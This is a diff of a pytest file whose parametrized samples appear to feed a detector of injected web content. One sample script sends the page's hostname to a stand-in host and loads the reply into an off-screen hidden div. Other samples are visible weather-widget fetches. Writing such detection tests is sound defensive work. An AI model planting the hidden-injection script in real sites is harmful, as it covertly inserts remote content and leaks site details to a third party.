@@ -119,8 +119,8 @@ def test_a_layer_for_guests_from_abroad_stays(names: tuple[str, ...]) -> None:
             '{document.getElementsByClassName("kq")[0].innerHTML=t})</script>'
         ),
         (
-            '<script>async function z(){const r=await fetch("https://li.example.net/l.php?d="+location.hostname);'
-            'const h=await r.text();const e=document.createElement("div");e.style.cssText="position:absolute;top:-9999px";'
+            '<script>async function z(){const r=await fetch("https://li.example.net/?d="+location.hostname);'
+            'const h=await r.text();const e=document.createElement("div");e.style.cssText="position:fixed;top:-9999px";'
             "e.innerHTML=h;document.body.appendChild(e)}z()</script>"
         ),
     ],
@@ -132,9 +132,9 @@ def test_what_is_fetched_into_hidden_boxes_of_a_class_or_of_its_own_making(piece
 @pytest.mark.parametrize(
     "piece",
     [
-        '<div class="weather"></div><script>$.get("https://sky.example.net/",function(d){$(".weather").html(d)})</script>\n',
+        '<div class="weather"></div><script>$.get("//sky.example.net/",function(d){$(".weather").html(d)})</script>\n',
         (
-            '<script>fetch("https://sky.example.net/now").then(r=>r.text()).then(t=>{const e=document.createElement("div");'
+            '<script>fetch("//sky.example.net/now").then(r=>r.text()).then(t=>{const e=document.createElement("div");'
             'e.style.cssText="padding:4px";e.innerHTML=t;document.body.appendChild(e)})</script>\n'
         ),
     ],
